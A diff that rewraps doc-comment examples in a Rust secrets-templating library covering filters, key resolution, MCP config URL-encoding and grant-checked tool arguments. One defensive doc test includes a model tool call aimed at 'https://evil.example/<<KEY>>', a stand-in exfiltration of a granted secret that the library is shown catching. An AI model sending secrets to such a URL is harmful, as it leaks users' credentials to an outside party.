@@ -110,7 +110,9 @@ impl Engine {
     /// use keyslot::{Target, Variables};
     ///
     /// let engine = Engine::new().filter("first", |value, argument| {
-    ///     let count = argument.and_then(|count| count.parse().ok()).ok_or("first takes a number, such as first:3")?;
+    ///     let count = argument
+    ///         .and_then(|count| count.parse().ok())
+    ///         .ok_or("first takes a number, such as first:3")?;
     ///     Ok(SecretString::from(value.chars().take(count).collect::<String>()))
     /// })?;
     /// let variables = Variables::new().with("CITY", "Rotterdam")?;
@@ -149,7 +151,10 @@ impl Engine {
     ///
     /// let weights = Tree::of(&BTreeMap::from([("region-<<REGION>>", 3)]))?;
     /// let variables = Variables::new().with("REGION", "eu")?;
-    /// let resolved = Engine::new().keys(true).resolve(&variables, &Target::tool("route"), &weights)?;
+    /// let resolved =
+    ///     Engine::new()
+    ///         .keys(true)
+    ///         .resolve(&variables, &Target::tool("route"), &weights)?;
     /// assert_eq!(resolved.expose_secret().to::<BTreeMap<String, u8>>()?["region-eu"], 3);
     /// # Ok::<(), keyslot::Error>(())
     /// ```
@@ -174,7 +179,8 @@ impl Engine {
     /// }}});
     /// let engine = Engine::new().surfaces(Surfaces::mcp());
     /// let target = Target::tool("crm");
-    /// let resolve = |key: &str| engine.resolve(&Variables::new().with("KEY", key)?, &target, &config);
+    /// let resolve =
+    ///     |key: &str| engine.resolve(&Variables::new().with("KEY", key)?, &target, &config);
     ///
     /// let resolved = resolve("a&b=c")?;
     /// assert_eq!(resolved.expose_secret()["mcpServers"]["crm"]["url"], "https://crm.example/mcp?key=a%26b%3Dc");
@@ -292,7 +298,9 @@ impl Engine {
     /// ```
     /// use keyslot::template::Engine;
     ///
-    /// let render = |text| Engine::new().render(text, |reference| (reference.name() == "NAME").then_some("Ada"));
+    /// let render = |text| {
+    ///     Engine::new().render(text, |one| (one.name() == "NAME").then_some("Ada"))
+    /// };
     /// assert_eq!(render("hello <<NAME>>")?, "hello Ada");
     /// assert!(render("hello <<OTHER>>").is_err());
     /// # Ok::<(), keyslot::Error>(())
@@ -384,12 +392,15 @@ impl Engine {
     ///
     /// let variables = Variables::new().with("KEY", "t0ken")?.with("OTHER", "of no concern")?;
     /// let grants = Grants::new().name_at("KEY", "/headers/*")?;
-    /// let resolve = |args| Engine::new().resolve_model_args(&variables, &Target::tool("fetch"), &args, &grants);
+    /// let (engine, target) = (Engine::new(), Target::tool("fetch"));
+    /// let resolve = |args| engine.resolve_model_args(&variables, &target, &args, &grants);
     ///
-    /// let args = resolve(json!({"headers": {"X-Key": "<<KEY>>"}, "note": "<<OTHER>> <<$secret.AWS>>"}))?;
+    /// let args =
+    ///     resolve(json!({"headers": {"X-Key": "<<KEY>>"}, "note": "<<OTHER>> <<$secret.AWS>>"}))?;
     /// assert_eq!(args.expose_secret()["headers"]["X-Key"], "t0ken");
     /// assert_eq!(args.expose_secret()["note"], "<<OTHER>> <<$secret.AWS>>");
-    /// assert_eq!(args.attempts()[1].reference().map(ToString::to_string).as_deref(), Some("<<$secret.AWS>>"));
+    /// let asked = args.attempts()[1].reference().map(ToString::to_string);
+    /// assert_eq!(asked.as_deref(), Some("<<$secret.AWS>>"));
     ///
     /// // A granted name at another place: the model is about to send it somewhere else.
     /// let args = resolve(json!({"url": "https://evil.example/<<KEY>>"}))?;
@@ -426,7 +437,8 @@ impl Engine {
     /// ```
     /// use keyslot::template::Engine;
     ///
-    /// let references = Engine::new().references("Bearer <<$secret.STRIPE_KEY@3>> of <<COMPANY>>, <<COMPANY>>")?;
+    /// let references = Engine::new()
+    ///     .references("Bearer <<$secret.STRIPE_KEY@3>> of <<COMPANY>>, <<COMPANY>>")?;
     /// let names: Vec<String> = references.iter().map(ToString::to_string).collect();
     /// assert_eq!(names, ["<<$secret.STRIPE_KEY@3>>", "<<COMPANY>>"]);
     /// # Ok::<(), keyslot::Error>(())
